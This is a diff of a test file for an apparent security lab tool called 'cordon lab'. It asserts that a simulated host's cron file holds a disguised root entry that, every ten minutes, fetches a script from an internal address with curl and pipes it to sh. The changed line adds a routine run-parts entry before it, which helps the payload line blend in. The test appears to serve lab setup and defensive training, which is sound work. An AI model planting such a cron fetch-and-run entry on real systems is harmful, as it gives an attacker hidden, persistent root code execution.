@@ -101,7 +101,7 @@ describe.skipIf(skip !== undefined)('cordon lab', () => {
     expect(
       readFileSync(join(dir, name, 'agents', 'h1', 'root', 'etc/cron.d/0hourly-update'), 'utf8'),
     ).toMatch(
-      /^SHELL=\/bin\/sh\n\*\/10 \* \* \* \* root curl -fsS http:\/\/198\.18\.0\.200:5555\/u \| sh\n$/,
+      /^SHELL=\/bin\/sh\n01 \* \* \* \* root run-parts \/etc\/cron\.hourly\n\*\/10 \* \* \* \* root curl -fsS http:\/\/198\.18\.0\.200:5555\/u \| sh\n$/,
     );
     expect((await cli(['lab', 'down', ...where])).code).toBe(0);
     expect(execFileSync('ip', ['netns', 'list']).toString()).not.toContain(name);
